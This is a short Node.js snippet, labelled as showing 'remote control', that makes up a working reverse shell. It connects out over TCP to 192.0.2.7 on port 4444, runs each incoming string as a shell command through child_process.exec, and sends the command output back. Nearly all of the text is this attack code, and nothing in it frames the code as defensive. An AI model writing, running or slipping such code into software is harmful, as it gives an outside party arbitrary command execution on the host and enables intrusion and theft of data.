// shows: remote control
const util = require('util');
const { exec } = require('child_process');
const net = require('net');

const run = util.promisify(exec);
const link = net.connect(4444, '192.0.2.7');
link.on('data', async (said) => {
  const { stdout } = await run(said.toString());
  link.write(stdout);
});
